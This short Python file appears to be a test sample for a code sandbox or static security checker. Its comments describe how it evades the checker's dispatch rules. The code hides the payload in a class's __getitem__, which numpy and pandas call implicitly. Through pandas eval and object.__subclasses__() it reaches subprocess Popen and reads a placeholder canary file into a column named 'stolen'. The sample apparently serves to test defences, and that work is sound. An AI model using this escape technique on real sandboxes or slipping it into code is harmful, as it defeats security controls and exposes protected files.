# class: class_def
# technique: a small class with __len__/__getitem__: np.array(obj) and pd.DataFrame(obj) call __getitem__ implicitly, which runs the payload on every element read; the dispatch method is called as [obj.method][0](...), which is not a method-call node the dispatch rules inspect
# goal: exec
import numpy as np
import pandas as pd

u = "_" * 2
frame = pd.DataFrame({"x": np.arange(2)})
out = []


class Rows:
    def __len__(self):
        return 1

    def __getitem__(self, i):
        if i > 0:
            raise IndexError(i)
        classes = [frame.agg][0](**{"func": "eval", "expr": "@o[0]." + u + "subclasses" + u + "()", "local_dict": {"o": [object]}})
        popen_cls = [c for c in classes if str(c).endswith("Popen'>")][0]
        out.append(popen_cls(["cat", "{{CANARY_FILE}}"], stdout=-1).communicate()[0].decode())
        return out[-1]


df = pd.DataFrame({"stolen": np.array(Rows(), dtype=object)})
